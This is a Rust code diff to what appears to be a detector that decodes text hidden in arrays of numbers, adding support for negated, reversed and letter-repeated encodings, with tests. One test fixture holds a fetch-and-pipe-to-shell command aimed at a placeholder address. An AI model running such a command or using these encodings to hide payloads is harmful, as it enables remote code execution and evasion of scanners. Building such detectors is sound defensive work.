@@ -32,7 +32,7 @@ impl Spelled {
     /// Takes a number; whether it goes on with what those before it began.
     pub(super) fn push(&mut self, value: &Value) -> bool {
         let Some((number, width)) = number(value) else { return false };
-        let piece = piece(number);
+        let piece = piece(number).or_else(|| piece(below_zero(value)?));
         let is_text = self.is_text != Some(false) && piece.is_some();
         if !is_text && !self.begins_as_program(number, width) {
             return false;
@@ -66,11 +66,19 @@ impl Spelled {
         self.numbers.windows(2).all(|pair| pair[0] == pair[1])
     }
 
+    /// Whether there are none but zeros yet.
+    pub(super) fn is_nothing(&self) -> bool {
+        self.numbers.iter().all(|number| *number == 0)
+    }
+
     /// What they may spell.
     pub(super) fn readings(self) -> Vec<Vec<u8>> {
         if self.is_text == Some(true) {
             let is_packed = self.low_first != self.high_first;
-            return std::iter::once(self.low_first).chain(is_packed.then_some(self.high_first)).collect();
+            let backwards = self.low_first.iter().rev().copied().collect();
+            let once = each_once(&self.low_first);
+            let plain = std::iter::once(self.low_first).chain(is_packed.then_some(self.high_first));
+            return plain.chain([backwards]).chain(once).collect();
         }
         let words = |bytes: fn(&[u8; 8], usize) -> Vec<u8>| {
             self.numbers.iter().flat_map(|number| bytes(&number.to_le_bytes(), self.width)).collect()
@@ -124,6 +132,17 @@ impl Begun {
     }
 }
 
+/// A text in which each letter comes so many times, with each of them once.
+fn each_once(text: &[u8]) -> Option<Vec<u8>> {
+    let runs = text.chunk_by(|one, next| one == next).map(<[u8]>::len);
+    let times = runs.reduce(common_divisor).filter(|&times| times > 1)?;
+    Some(text.iter().step_by(times).copied().collect())
+}
+
+fn common_divisor(one: usize, other: usize) -> usize {
+    if other == 0 { one } else { common_divisor(other, one % other) }
+}
+
 /// The bits of a number and how many bytes it has.
 fn number(value: &Value) -> Option<(u64, usize)> {
     match *value {
@@ -133,6 +152,16 @@ fn number(value: &Value) -> Option<(u64, usize)> {
         Value::F64(value) => whole(value).map(|number| (number, 8)),
         _ => None,
     }
+}
+
+/// What a number below zero is without its sign, if that may be a character.
+fn below_zero(value: &Value) -> Option<u64> {
+    let value = match *value {
+        Value::I32(value) => value.into(),
+        Value::I64(value) => value,
+        _ => return None,
+    };
+    (value < -1).then(|| value.unsigned_abs()).filter(|&code| code < LAST_CODE)
 }
 
 /// The whole number that one of floating point is.
@@ -188,6 +217,9 @@ mod tests {
             words(4, |bytes| Value::I32(bytes.iter().rev().fold(0, |all, byte| all << 8 | i32::from(*byte)))),
             words(3, |bytes| Value::I32(bytes.iter().fold(0, |all, byte| all << 8 | i32::from(*byte)))),
             words(8, |bytes| Value::I64(bytes.iter().rev().fold(0, |all, byte| all << 8 | i64::from(*byte)))),
+            words(1, |bytes| Value::I32(-i32::from(bytes[0]))),
+            spelled(TEXT.bytes().rev().map(|byte| Value::I32(byte.into()))),
+            spelled(TEXT.bytes().flat_map(|byte| [Value::I32(byte.into()); 4])),
         ] {
             assert!(read.iter().any(|read| read == TEXT.as_bytes()), "{read:?}");
         }
@@ -205,7 +237,7 @@ mod tests {
         let script = b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n";
         let more = [0, 200].map(Value::I32);
         let read = spelled(script.iter().map(|byte| Value::I32((*byte).into())).chain(more));
-        assert_eq!(read, [script.to_vec()]);
+        assert_eq!(read[0], script);
         for number in [-1, 7, 1 << 20, 65_536] {
             assert!(!Spelled::default().push(&Value::I32(number)), "{number}");
         }
